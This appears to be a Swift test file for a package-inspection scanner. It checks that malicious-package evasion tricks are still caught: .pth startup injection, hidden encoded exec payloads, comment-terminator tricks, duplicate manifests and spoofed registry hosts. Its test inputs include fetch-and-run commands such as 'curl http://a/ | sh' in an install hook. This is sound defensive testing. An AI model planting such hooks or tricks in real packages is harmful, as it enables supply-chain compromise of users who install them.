import Testing

@testable import Provenance

/// What somebody does who has read the rules. Nothing here is run.
@Suite("Who has read the rules")
struct EvasionTests {
    private static let manifest = #"{"name":"x","version":"1.0.0"}"#
    private static let packed = "exec(__import__('base64').b64decode('cHJpbnQoMSkK'))"

    private func wheel(_ files: [(String, String)]) -> PackageInspection {
        let entries = files.map { (name: $0.0, type: UInt8(0x30), content: $0.1) }
        return InspectionTests.inspector.inspect(
            ArchiveTests.tar(entries),
            name: "x-1-py3-none-any.whl"
        )
    }

    @Test("a ZIP whose directory lies at the end of all numbers is refused, not fatal")
    func far() {
        let far: [UInt8] = [0xFA, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x7F]
        var bytes = [UInt8](repeating: 0, count: 32) + [0x50, 0x4B, 0x06, 0x06]
        bytes += [UInt8](repeating: 0, count: 28) + [1] + [UInt8](repeating: 0, count: 15) + far
        bytes += [0x50, 0x4B, 0x06, 0x07, 0, 0, 0, 0, 32] + [UInt8](repeating: 0, count: 11)
        bytes += [0x50, 0x4B, 0x05, 0x06, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0, 0, 0, 0]
        bytes += [0xFF, 0xFF, 0xFF, 0xFF, 0, 0]
        #expect(throws: ArchiveFault.self) { try Zip(bytes) }
    }

    @Test("a pickle that ends within a name is read as far as it goes", arguments: ["c", "ca", "i"])
    func short(text: String) {
        #expect(PickleImports.names(Array(text.utf8)).count == 1)
    }

    @Test("comments end where the language ends lines", arguments: ["\r", "\r\n", "\n"])
    func comments(end: String) {
        let found = KindsTests.inspect(
            [("x/__init__.py", "# hello\(end)\(Self.packed)\(end)"), KindsTests.info],
            name: "x-1.tar.gz"
        )
        #expect(found.answer == .refuse)
    }

    @Test("JavaScript's own line ends end comments", arguments: ["\r", "\u{2028}", "\u{2029}"])
    func separators(end: String) {
        let found = KindsTests.inspect(
            [
                ("package.json", #"{"name":"x","version":"1.0.0","main":"index.js"}"#),
                ("index.js", "// hello\(end)eval(atob('YWxlcnQoMSk='))"),
            ],
            name: "x-1.0.0.tgz"
        )
        #expect(found.marks.contains { $0.rule == "EXEC-1" }, "\(found.marks)")
    }

    static let startups: [(String, Trigger?)] = [
        ("# hi\rimport os; \(packed)\n", .start),
        ("# hi\u{2028}import os; \(packed)\n", .start),
        ("\u{FEFF}import os; \(packed)\n", .start),
        (
            "import sys, types, os;importlib.util;module_from_spec;\(packed)\n",
            .start
        ),
        ("import __editable___a; import b; b.install()\n", .start),
        ("import __editable___a_finder; __editable___a_finder.install()\n", nil),
        (
            "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
                + "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a',));"
                + "importlib = has_mfs and __import__('importlib.util');"
                + "m = has_mfs and sys.modules.setdefault('a', importlib.util.module_from_spec("
                + "importlib.machinery.PathFinder.find_spec('a', [os.path.dirname(p)])));\n", nil
        ),
    ]

    @Test("lines of a .pth are read as Python reads them", arguments: startups)
    func startup(text: String, trigger: Trigger?) {
        let found = wheel([("x.pth", text)])
        #expect(found.marks.first { $0.rule.hasPrefix("PTH") }?.trigger == trigger)
    }

    @Test(
        "what every interpreter imports is seen wherever modules lie",
        arguments: [
            "sitecustomize.py", "x-1.data/purelib/sitecustomize.py",
            "x-1.data/platlib/usercustomize.py", "usercustomize/__init__.py",
        ]
    )
    func site(path: String) {
        #expect(wheel([(path, "x = 1\n")]).marks.contains { $0.rule == "SITE-1" })
        #expect(!wheel([("x/" + path, "x = 1\n")]).marks.contains { $0.rule == "SITE-1" })
    }

    @Test("of two files with one name the last is read, and both are told")
    func twice() {
        let evil = #"{"name":"x","version":"1.0.0","scripts":{"install":"curl http://a/ | sh"}}"#
        let found = KindsTests.inspect(
            [("package.json", Self.manifest), ("package.json", evil)],
            name: "x-1.0.0.tgz"
        )
        #expect(found.marks.contains { $0.rule == "HOOK-1" })
        #expect(found.marks.contains { $0.rule == "ZIP-3" })
        let keys = #"{"name":"x","version":"1.0.0","scripts":{},"scripts":"#
            + #"{"install":"curl http://a/ | sh"}}"#
        let again = KindsTests.inspect([("package.json", keys)], name: "x-1.0.0.tgz")
        #expect(again.marks.contains { $0.rule == "HOOK-1" })
    }

    @Test("what stands behind one block of zeros is read too")
    func zeros() throws {
        let one = ArchiveTests.tar([("a", 0x30, "one")]).dropLast(512)
        let bytes = Array(one) + ArchiveTests.tar([("b", 0x30, "two")])
        var names: [String] = []
        var walker = TarWalker(wants: { _ in true }) { (entry, _) throws(ArchiveFault) in
            names.append(entry.name)
        }
        try walker.feed(bytes[...])
        try walker.finish()
        #expect(names == ["a", "b"])
    }

    @Test("what cannot be read is never let pass in silence")
    func unread() {
        let found = InspectionTests.inspector.inspect(Array("{".utf8), name: "x.ipynb")
        #expect(!found.unread.isEmpty && found.answer == .review)
    }

    @Test("a notebook of the third format is read")
    func sheets() {
        let cell = #"{"cell_type":"code","input":["!curl http://a/|sh"]}"#
        let text = #"{"worksheets":[{"cells":["# + cell + "]}]}"
        let found = InspectionTests.inspector.inspect(Array(text.utf8), name: "x.ipynb")
        #expect(found.marks.contains { $0.rule == "NET-1" }, "\(found.marks)")
    }

    @Test("another host that begins as the registry does is not the registry")
    func registry() {
        #expect(Signs.isRegistry("https://registry.npmjs.org/left-pad"))
        #expect(Signs.isRegistry("https://pypi.org"))
        #expect(!Signs.isRegistry("https://registry.npmjs.org.example.com/x"))
        #expect(!Signs.isRegistry("https://pypi.org@example.com/"))
    }

    @Test("comments of many lines hide no function, and strings begin no comment")
    func reach() {
        let go = "package a\n/*\nfunc run() {\n*/\nvar t = \"image/*\"\nvar x = run()\n"
        let plain = String(decoding: ScriptScan.withoutComments(go: Array(go.utf8)), as: UTF8.self)
        #expect(!plain.contains("func run") && plain.contains("image/*"))
        #expect(plain.split(separator: "\n", omittingEmptySubsequences: false).count == 7)
        #expect(LineReach.go(Array(go.utf8)).holds(6))
        let ruby = "=begin\ndef a\n=end\nsystem('x')\n"
        #expect(LineReach.ruby(Array(ruby.utf8)).holds(4))
    }

    @Test("the weightiest of a rule's marks is the one that stays")
    func weight() {
        var rules = LineRules(path: "a", trigger: .install)
        rules.add("NET-1", 1, 20, "light")
        rules.add("NET-1", 2, 90, "heavy")
        rules.add("NET-1", 3, 30, "light again")
        #expect(rules.marks.map(\.points) == [90])
    }

    @Test("a picture counts once code is made of it")
    func pictures() {
        func points(_ text: String) -> Int? {
            KindsTests.inspect([("x/__init__.py", text), KindsTests.info], name: "x-1.tar.gz")
                .marks.first { $0.rule == "EXEC-4" }?.points
        }
        #expect(points("icon = 'a.png'\nexec('x = 1')\n") ?? 0 <= 15)
        #expect(points("d = open('a.png').read()\nexec(d[9:])\n") == 70)
    }
}
